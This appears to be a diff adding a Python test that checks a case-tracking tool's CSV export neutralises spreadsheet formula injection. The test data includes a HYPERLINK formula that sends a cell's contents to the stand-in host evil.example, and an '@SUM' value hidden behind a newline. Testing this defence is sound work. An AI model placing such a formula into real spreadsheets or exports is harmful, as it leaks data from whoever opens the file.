@@ -249,6 +249,28 @@ def test_export_to_standard_output_is_the_same_as_to_a_file(
     assert printed == written
 
 
+def test_csv_export_neutralises_a_formula_behind_leading_whitespace(
+    tmp_path: Path, tracker: Path
+) -> None:
+    """`casework export --format csv` (the same writer as /data/records.csv): a summary that
+    a spreadsheet would trim to a formula reaches the file behind an apostrophe."""
+    import csv
+    import io
+
+    source = ndjson_file(tmp_path / "in.ndjson", 1)
+    [line] = source.read_text("utf-8").splitlines()
+    document = json.loads(line)
+    document["summary"] = ' =HYPERLINK("http://evil.example/?leak="&A1)'
+    document["victims"] = "\n@SUM(A1)"
+    source.write_text(json.dumps(document) + "\n", "utf-8")
+    assert cw(tracker, "import", "--status", "published", str(source))[0] == 0
+    code, printed, err = cw(tracker, "export", "--format", "csv", "-o", "-")
+    assert code == 0, err
+    [row] = list(csv.DictReader(io.StringIO(printed, newline="")))
+    assert row["summary"] == "'" + document["summary"]
+    assert row["victims"] == "'" + document["victims"]
+
+
 def test_markdown_export_to_standard_output_is_refused(tracker: Path) -> None:
     code, _, err = cw(tracker, "export", "--format", "markdown", "-o", "-")
     assert code == 1 and "folder" in err
